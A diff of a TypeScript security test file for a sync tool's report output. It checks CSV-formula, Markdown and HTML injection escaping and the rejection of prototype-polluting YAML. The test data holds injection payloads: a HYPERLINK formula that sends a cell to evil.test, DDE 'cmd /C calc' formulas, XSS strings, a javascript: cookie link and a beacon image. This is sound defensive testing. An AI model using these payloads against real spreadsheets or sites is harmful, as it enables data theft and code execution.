@@ -12,7 +12,7 @@ import { parseCsv } from '../lib/report/csv.js';
  */
 
 /** Values a scraper or a web form can deliver, each one an attack on a spreadsheet or a Markdown viewer. */
-const FORMULAS = ['=HYPERLINK("http://evil.test/?x="&A1,"Click")', "=cmd|' /C calc'!A0", '+1+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
+const FORMULAS = ['=HYPERLINK("http://evil.test/?x="&A1,"Click")', "=cmd|' /C calc'!A0", '+1+1', "-2+3+cmd|' /C calc'!A0", '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
 const HTML = '</td></tr></table><script>alert(1)</script>';
 const LINK = '[click me](javascript:alert(document.cookie))';
 const IMAGE = '![x](https://evil.test/beacon.png)';
@@ -20,20 +20,43 @@ const MIXED = '<img src=x onerror=alert(1)> | `code` *bold* _it_ ~~s~~ &lt; $x$\
 
 function events(): string {
   const op = (id: string, fields: Record<string, unknown>, replaces: Record<string, unknown>, status = 'applied', error?: string) => ({
-    kind: 'operation', action: 'update', system: 'local', id, fields, replaces, reason: 'sync', entity: id, result: { status, id, ...(error ? { error } : {}) },
+    kind: 'operation',
+    action: 'update',
+    system: 'local',
+    id,
+    fields,
+    replaces,
+    reason: 'sync',
+    entity: id,
+    result: { status, id, ...(error ? { error } : {}) },
   });
   const items: unknown[] = FORMULAS.map((f, i) => op(`r${i}`, { notes: f }, { notes: FORMULAS[(i + 1) % FORMULAS.length] }));
   items.push(op(FORMULAS[1], { [FORMULAS[4]]: 'x' }, {}));
   items.push(op('r-fail', { notes: HTML }, { notes: LINK }, 'failed', `${HTML} ${IMAGE}`));
   const person = (id: string, name: string) => ({ name, email: `${id}@example.org`, _meta: { source: 'local', id } });
   items.push({
-    kind: 'duplicate_group', cluster: 'c1', matching_field: 'email', matching_value: LINK,
-    records: [person('1', IMAGE), person('2', HTML)], primary_record: person('1', IMAGE), duplicate_records: [person('2', HTML)],
-    resolution_strategy: 'most_recent', confidence_score: 1,
+    kind: 'duplicate_group',
+    cluster: 'c1',
+    matching_field: 'email',
+    matching_value: LINK,
+    records: [person('1', IMAGE), person('2', HTML)],
+    primary_record: person('1', IMAGE),
+    duplicate_records: [person('2', HTML)],
+    resolution_strategy: 'most_recent',
+    confidence_score: 1,
   });
   items.push({
-    kind: 'conflict', entity: 'c2', field_name: MIXED, local_value: HTML, airtable_value: IMAGE, record_id: LINK,
-    last_modified_local: null, last_modified_airtable: null, conflict_type: 'value_mismatch', suggested_resolution: 'keep_local', resolution: 'manual',
+    kind: 'conflict',
+    entity: 'c2',
+    field_name: MIXED,
+    local_value: HTML,
+    airtable_value: IMAGE,
+    record_id: LINK,
+    last_modified_local: null,
+    last_modified_airtable: null,
+    conflict_type: 'value_mismatch',
+    suggested_resolution: 'keep_local',
+    resolution: 'manual',
   });
   return items.map((item) => JSON.stringify(item)).join('\n') + '\n';
 }
@@ -63,8 +86,10 @@ function tableCells(row: string): string[] {
   for (let i = 1; i < row.length - 1; i++) {
     const ch = row[i]!;
     if (ch === '\\' && /[!-/:-@[-`{-~]/.test(row[i + 1] ?? '')) cell += row[++i];
-    else if (ch === '|') { cells.push(cell.trim()); cell = ''; }
-    else if (MARKUP.has(ch)) throw new Error(`unescaped ${JSON.stringify(ch)} at ${i} in ${row}`);
+    else if (ch === '|') {
+      cells.push(cell.trim());
+      cell = '';
+    } else if (MARKUP.has(ch)) throw new Error(`unescaped ${JSON.stringify(ch)} at ${i} in ${row}`);
     else cell += ch;
   }
   cells.push(cell.trim());
@@ -76,7 +101,11 @@ describe('security: spreadsheet and Markdown injection through the report', func
 
   it('writes every audit.csv cell that a spreadsheet would run with a leading apostrophe, and nothing else changed', async () => {
     const latest = await report();
-    const entries = fs.readFileSync(path.join(latest, 'audit.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
+    const entries = fs
+      .readFileSync(path.join(latest, 'audit.jsonl'), 'utf8')
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l) as Record<string, unknown>);
     const rows = parseCsv(fs.readFileSync(path.join(latest, 'audit.csv'), 'utf8'));
     const header = rows[0]!;
     expect(rows.slice(1)).to.have.length(entries.length);
@@ -103,7 +132,10 @@ describe('security: spreadsheet and Markdown injection through the report', func
     const bytes = fs.readFileSync(path.join(latest, 'audit.csv'));
     expect([...bytes.subarray(0, 3)]).to.deep.equal([0xef, 0xbb, 0xbf]);
     const rows = parseCsv(bytes.subarray(3).toString('utf8'));
-    const notes = rows.slice(1).filter((r) => r[5] === 'notes').map((r) => r[7]);
+    const notes = rows
+      .slice(1)
+      .filter((r) => r[5] === 'notes')
+      .map((r) => r[7]);
     expect(notes).to.include.members(FORMULAS);
   });
 
@@ -123,19 +155,22 @@ describe('security: spreadsheet and Markdown injection through the report', func
 describe('security: hostile YAML', function () {
   this.timeout(60_000);
 
-  it('treats __proto__, constructor and prototype in a step\'s options as unknown options (exit 2, file:line:col)', async () => {
+  it("treats __proto__, constructor and prototype in a step's options as unknown options (exit 2, file:line:col)", async () => {
     const dir = tempDir('security-yaml-');
     const file = path.join(dir, 'proto.yaml');
-    fs.writeFileSync(file, [
-      'steps:',
-      '  - read-jsonl:',
-      '      path: in.jsonl',
-      '      __proto__: { path: elsewhere.jsonl }',
-      '      constructor: 1',
-      '      prototype: 1',
-      '  - write-jsonl: { path: "-" }',
-      '',
-    ].join('\n'));
+    fs.writeFileSync(
+      file,
+      [
+        'steps:',
+        '  - read-jsonl:',
+        '      path: in.jsonl',
+        '      __proto__: { path: elsewhere.jsonl }',
+        '      constructor: 1',
+        '      prototype: 1',
+        '  - write-jsonl: { path: "-" }',
+        '',
+      ].join('\n'),
+    );
     const result = await cli('run-pipeline', ['--check', file]);
     expect(result.code).to.equal(2);
     expect(result.stderr).to.contain(`${file}:4:7 read-jsonl.__proto__: unknown option`);
@@ -191,7 +226,9 @@ describe('security: hostile YAML', function () {
     const result = await cli('run-pipeline', ['--check', file]);
     expect(result.code).to.equal(2);
     const lines = result.stderr.trim().split('\n');
-    expect(lines[0]).to.equal(`${file}:4:7 read-jsonl.k0: unknown option; read-jsonl takes path, max_line_bytes, keep_inexact_numbers_as_text, reject_invalid_utf8, on_error`);
+    expect(lines[0]).to.equal(
+      `${file}:4:7 read-jsonl.k0: unknown option; read-jsonl takes path, max_line_bytes, keep_inexact_numbers_as_text, reject_invalid_utf8, on_error`,
+    );
     expect(lines.slice(-2)).to.deep.equal(['… and 39900 more problem(s).', '40000 configuration problem(s); nothing was run.']);
   });
 
@@ -211,7 +248,9 @@ describe('security: hostile YAML', function () {
     fs.writeFileSync(big, `${padding}steps:\n  - read-jsonl: { path: in.jsonl }\n`);
     let result = await cli('run-pipeline', ['--check', big]);
     expect(result.code).to.equal(2);
-    expect(result.stderr).to.match(/big\.yaml:1:1 the file is 1,1\d\d,\d\d\d bytes, over the limit of 1024 KiB for a pipeline, configuration or field-mapping file, so it was not read/);
+    expect(result.stderr).to.match(
+      /big\.yaml:1:1 the file is 1,1\d\d,\d\d\d bytes, over the limit of 1024 KiB for a pipeline, configuration or field-mapping file, so it was not read/,
+    );
 
     fs.writeFileSync(path.join(dir, 'config.yaml'), `${padding}maintenance_config: {}\n`);
     fs.writeFileSync(path.join(dir, 'mapping.yaml'), padding + fs.readFileSync(path.join(ROOT, 'config', 'field-mapping.yaml'), 'utf8'));
@@ -234,7 +273,9 @@ describe('run-pipeline --check and the field mapping', () => {
     fs.writeFileSync(file, 'steps:\n  - read-jsonl: { path: in.jsonl }\n  - diff: { field_mapping: mapping.yaml }\n  - write-jsonl: { path: "-" }\n');
     const result = await cli('run-pipeline', ['--check', file]);
     expect(result.code).to.equal(2);
-    expect(result.stderr).to.contain(`${path.join(dir, 'mapping.yaml')}:${line}:3 field_mapping.database_to_airtabel: Unknown key 'database_to_airtabel'. Did you mean 'database_to_airtable'?`);
+    expect(result.stderr).to.contain(
+      `${path.join(dir, 'mapping.yaml')}:${line}:3 field_mapping.database_to_airtabel: Unknown key 'database_to_airtabel'. Did you mean 'database_to_airtable'?`,
+    );
     const good = await cli('run-pipeline', ['--check', 'spec/fixtures/pipelines/good.yaml'], { env: { SPEC_OUT: '/dev/null' } });
     expect(good.code, good.stderr).to.equal(0);
   });
